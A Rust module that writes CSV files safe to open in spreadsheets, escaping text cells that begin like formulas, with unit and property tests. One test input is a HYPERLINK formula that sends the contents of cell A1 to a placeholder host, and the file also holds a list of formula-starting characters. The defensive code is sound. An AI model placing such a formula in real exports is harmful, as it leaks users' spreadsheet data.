//! CSV files that people open in a spreadsheet.
//!
//! A sheet computes a cell of text that begins like a formula, whoever chose the text. Such a cell
//! gets a `'` in front, which sheets take for "this is text" and which [`read`] takes off again.
//! Numbers are written as they are.

use std::{
    borrow::Cow,
    fs::File,
    io::BufWriter,
    path::{Path, PathBuf},
};

use anyhow::{Context as _, Result};

/// An open file of rows.
pub(crate) struct Sheet {
    path: PathBuf,
    writer: csv::Writer<BufWriter<File>>,
}

/// Cell of a row.
#[derive(Clone, Debug)]
pub(crate) enum Cell<'a> {
    /// Text that somebody may have chosen.
    Text(&'a str),
    /// A number that Mercer computed or counted, or nothing.
    Number(String),
}

impl Cell<'_> {
    /// A number in full precision.
    pub(crate) fn number(number: impl ToString) -> Self {
        Self::Number(number.to_string())
    }
}

impl Sheet {
    /// Begins a file with the names of its columns.
    pub(crate) fn create(path: &Path, columns: &[&str]) -> Result<Self> {
        let file = File::create(path).with_context(|| format!("writing {}", path.display()))?;
        let writer = csv::Writer::from_writer(BufWriter::new(file));
        let mut sheet = Self { path: path.to_owned(), writer };
        sheet.writer.write_record(columns)?;
        Ok(sheet)
    }

    /// Adds a row.
    pub(crate) fn write(&mut self, cells: &[Cell<'_>]) -> Result<()> {
        let row = cells.iter().map(|cell| match cell {
            Cell::Text(text) => text_cell(text),
            Cell::Number(number) => Cow::Borrowed(number.as_str()),
        });
        // Fields one by one: a record of them would need their bytes borrowed.
        for field in row {
            self.writer.write_field(field.as_bytes()).with_context(|| self.writing())?;
        }
        self.writer.write_record(None::<&[u8]>).with_context(|| self.writing())
    }

    /// Nothing is complete before.
    pub(crate) fn finish(mut self) -> Result<()> {
        self.writer.flush().with_context(|| self.writing())
    }

    fn writing(&self) -> String {
        format!("writing {}", self.path.display())
    }
}

/// A cell of a file as it was before it was made safe for sheets: without the `'` in front of what
/// begins like a formula. Every other text stays, also one that begins with `'`.
pub(crate) fn read(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if begins_like_a_formula(text) => text,
        _ => cell,
    }
}

/// A text that itself begins with `'` and a formula behind it gets another, so that [`read`] gives
/// back every text.
fn text_cell(text: &str) -> Cow<'_, str> {
    if begins_like_a_formula(text) { format!("'{text}").into() } else { text.into() }
}

/// As sheets read it, behind any number of `'`. Some take the full-width forms, too.
fn begins_like_a_formula(text: &str) -> bool {
    let begin = text.trim_start_matches('\'').chars().next();
    matches!(
        begin,
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0' | '＝' | '＋' | '－' | '＠')
    )
}

#[cfg(test)]
mod tests {
    use std::fs;

    use proptest::prelude::*;

    use super::*;

    #[test]
    fn no_text_begins_like_a_formula_and_numbers_stay_numbers() {
        let folder = tempfile::tempdir().expect("a folder");
        let path = folder.path().join("sheet.csv");
        let mut sheet = Sheet::create(&path, &["id", "score"]).expect("created");
        for (id, score) in [
            ("=HYPERLINK(\"http://x/?\"&A1,\"tea, green\")", -0.5),
            ("+1", 1.0),
            ("-2", -2.25),
            ("@SUM(A1)", 0.0),
            ("\t=1", 3.0),
            ("\r=1", 4.0),
            ("two\nlines", 5.0),
            ("'=quoted", 6.0),
            ("'tis", 7.0),
            ("＝1", 8.0),
            ("plain", 1e-7),
        ] {
            sheet.write(&[Cell::Text(id), Cell::number(score)]).expect("written");
        }
        sheet.finish().expect("complete");
        let written = fs::read_to_string(&path).expect("read");
        assert_eq!(written, include_str!("golden/sheet.csv").replace("<CR>", "\r"));
    }

    proptest! {
        #[test]
        fn every_text_comes_back(text in "['=+@\t\r\n＝a-]{0,6}", other in any::<String>()) {
            for text in [text, other] {
                let cell = text_cell(&text);
                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']));
                prop_assert_eq!(read(&cell), text.as_str());
            }
        }
    }
}
